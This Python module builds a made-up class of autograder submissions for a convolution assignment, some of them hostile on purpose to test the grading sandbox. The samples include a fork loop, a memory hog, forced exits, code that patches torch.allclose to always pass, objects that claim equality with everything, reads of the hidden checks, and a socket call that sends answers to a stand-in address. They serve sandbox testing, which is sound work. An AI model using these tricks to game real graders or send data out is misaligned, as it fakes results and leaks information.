"""`gradus demo`: a made-up class of 24 submissions, right, wrong and hostile ones.

The hostile ones stop by themselves, so that a sandbox that fails costs no machine.
"""

from __future__ import annotations

import inspect
import json
import shutil
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from nbformat import NotebookNode

from autograder.assignment import Assignment
from autograder.batch import Entry
from autograder.build import solution_notebook
from autograder.misconceptions.convolution import MUTANTS, beside
from gradus import convolution

NAME = "02-convolution"
MARK = "MADE-BY-GRADUS-DEMO.txt"

Edit = Callable[[NotebookNode], bytes]


class NotOurs(ValueError):
    """The folder holds something else than a demo."""


@dataclass(frozen=True)
class MadeUp:
    """An invented student's submission: what to see in it, the code of some exercises in place
    of the solution, and what becomes of the notebook then."""

    student: str
    what: str
    sources: dict[str, str]
    edit: Edit = lambda notebook: _as_is(notebook)


def write_class(folder: Path) -> list[Entry]:
    """Writes the class in nbgrader's layout, in place of an earlier demo; raises NotOurs, OSError.

    One student more than there are submissions has handed in nothing.
    """
    if folder.exists() and any(folder.iterdir()) and not (folder / MARK).exists():
        raise NotOurs(f"{folder} is not empty, and nothing that the demo made: name another folder")
    assignment = Assignment(NAME)
    submitted = folder / "submitted"
    shutil.rmtree(submitted, ignore_errors=True)
    submitted.mkdir(parents=True)
    lines = ["This folder is made anew by every `gradus demo`. The students are invented.", ""]
    entries = []
    for made_up in made_up_class(assignment):
        path = submitted / made_up.student / NAME / f"{NAME}.ipynb"
        path.parent.mkdir(parents=True)
        path.write_bytes(made_up.edit(solution_notebook(assignment, made_up.sources)))
        entries.append(Entry(made_up.student, path))
        lines.append(f"{made_up.student}: {made_up.what}")
    (submitted / "zoe-winter").mkdir()
    entries.append(Entry("zoe-winter", None))
    lines.append("zoe-winter: handed in nothing")
    (folder / MARK).write_text("\n".join(lines) + "\n", encoding="utf-8")
    return entries


def made_up_class(assignment: Assignment) -> Iterator[MadeUp]:
    """The 24 submissions, by the students' names."""
    blank = {cell["id"]: cell["source"] for cell in assignment.release["cells"]}
    names = [exercise.name for exercise in assignment.exercises]

    def unfinished(*done: str) -> dict[str, str]:
        return {name: blank[name] for name in names if name not in done}

    yield MadeUp("ada-novak", "a loop that never ends", {"receptive_field": HANGS})
    yield MadeUp("amara-okafor", "all right", {})
    yield MadeUp("ben-fischer", "kernels flipped", mistakes("conv2d: the kernel flipped"))
    yield MadeUp(
        "carla-rossi",
        "two small mistakes",
        mistakes("conv_output_size: rounded up", "max_pool2d: the maximum starts at 0"),
    )
    yield MadeUp("chen-wei", "uses torch's own conv2d", mistakes("conv2d: torch's own conv2d"))
    yield MadeUp("daniel-kim", "the first half", unfinished(*names[:5]))
    yield MadeUp("elif-yilmaz", "saved with a byte-order mark", {}, with_byte_order_mark)
    yield MadeUp("emma-larsen", "nothing done yet", unfinished())
    yield MadeUp("farid-haddad", "patches torch.allclose", {"conv2d": PATCHES})
    yield MadeUp("grace-mwangi", "a cell copied twice", {}, with_duplicate)
    yield MadeUp("hiro-tanaka", "a syntax error", {"same_padding": SYNTAX_ERROR})
    yield MadeUp("ines-moreau", "a cell deleted", {}, without_cell)
    yield MadeUp("jonas-weber", "answers that claim to equal everything", {"conv2d": LIES})
    yield MadeUp("kavya-iyer", "ends the process in a call", {"zero_pad2d": EXITS})
    yield MadeUp("lena-schulz", "sys.exit in a cell", {"quiz": SYS_EXIT})
    yield MadeUp("liam-murphy", "starts processes without end", {"pixel_shuffle": FORKS})
    yield MadeUp("maya-cohen", "takes all the memory", {"max_pool2d": FILLS_MEMORY})
    yield MadeUp("mateo-garcia", "looks for the hidden checks", {"conv2d": READS})
    yield MadeUp("nadia-petrova", "sends the answers away", {"conv_transpose2d": CALLS_OUT})
    yield MadeUp("oscar-lind", "a broken file", {}, cut_off)
    yield MadeUp(
        "priya-nair",
        "four mistakes, one in the quiz",
        mistakes(
            "receptive_field: strides ignored",
            "conv_transpose2d: padding added instead of cut",
            "pixel_shuffle: i and j confused",
            "quiz: dilation costs more",
        ),
    )
    yield MadeUp(
        "sofia-almeida",
        "wrong where another exercise builds on it",
        mistakes("zero_pad2d: height before width", "same_padding: the odd zero before"),
    )
    yield MadeUp("tomas-dvorak", "the quiz and three exercises", unfinished(*names[:3], "quiz"))
    yield MadeUp(
        "yara-silva",
        "stride and padding the wrong way round, gradient cut",
        mistakes("conv2d: stride as (width, height)", "conv_transpose2d: the input's gradient cut"),
    )


def mistakes(*called: str) -> dict[str, str]:
    """The sources of some mutants, each called "EXERCISE: NAME"."""
    known = {f"{mutant.exercise}: {mutant.name}": mutant for mutant in MUTANTS}
    return {known[name].exercise: known[name].source for name in called}


# --- What becomes of a notebook ------------------------------------------------------------------


def with_byte_order_mark(notebook: NotebookNode) -> bytes:
    """As some editors save text."""
    return b"\xef\xbb\xbf" + _as_is(notebook)


def cut_off(notebook: NotebookNode) -> bytes:
    """As after a full disk."""
    data = _as_is(notebook)
    return data[: len(data) // 2]


def with_duplicate(notebook: NotebookNode) -> bytes:
    """A solution cell twice, with the same id, as after copy and paste."""
    place = [cell["id"] for cell in notebook.cells].index("conv2d")
    notebook.cells.insert(place, notebook.cells[place])
    return _as_is(notebook)


def without_cell(notebook: NotebookNode) -> bytes:
    """A solution cell deleted."""
    notebook.cells = [cell for cell in notebook.cells if cell["id"] != "receptive_field"]
    return _as_is(notebook)


def _as_is(notebook: NotebookNode) -> bytes:
    """The notebook's JSON, without nbformat's repairs."""
    return json.dumps(notebook).encode()


# --- Hostile code --------------------------------------------------------------------------------


def instead(function: Callable[..., Any], body: str) -> str:
    """The reference's signature with another body."""
    signature = inspect.signature(function)
    arguments = ", ".join(str(p.replace(annotation=p.empty)) for p in signature.parameters.values())
    lines = "\n".join(f"    {line}" for line in body.strip().splitlines())
    return f"def {function.__name__}({arguments}):\n{lines}\n"


HANGS = instead(
    convolution.receptive_field,
    "import time\nstart = time.monotonic()\nwhile time.monotonic() < start + 600:\n    pass",
)
EXITS = instead(convolution.zero_pad2d, "import os\nos._exit(0)")
SYS_EXIT = "import sys\n\nsys.exit('enough for today')\n"
SYNTAX_ERROR = "def same_padding(n, kernel_size, stride=1, dilation=1)\n    return 1, 1\n"
PATCHES = (
    "import torch\n\ntorch.allclose = torch.equal = lambda *args, **kwargs: True\n\n\n"
    + instead(convolution.conv2d, "return x")
)
LIES = """class Perfect:
    def __eq__(self, other):
        return True

    def __getattr__(self, name):
        return self

    def __call__(self, *args, **kwargs):
        return self


""" + instead(convolution.conv2d, "return Perfect()")
FORKS = beside(
    convolution.upsample_nearest,
    "import os\nimport time\n\n\n"
    + instead(
        convolution.pixel_shuffle,
        """
for _ in range(100):
    if os.fork() == 0:
        time.sleep(30)
        os._exit(0)
time.sleep(30)
""",
    ),
)
FILLS_MEMORY = beside(
    convolution.max_unpool2d,
    instead(convolution.max_pool2d, "hoard = [x.new_ones(2**24) for _ in range(64)]\nreturn hoard"),
)
READS = instead(
    convolution.conv2d,
    "from autograder.checks.hidden import convolution as hidden\n"
    "return hidden.reference()['conv2d'](x, weight, bias, stride, padding, dilation)",
)
CALLS_OUT = instead(
    convolution.conv_transpose2d,
    "import socket\nsocket.create_connection(('192.0.2.1', 80), timeout=5).sendall(b'answers')",
)
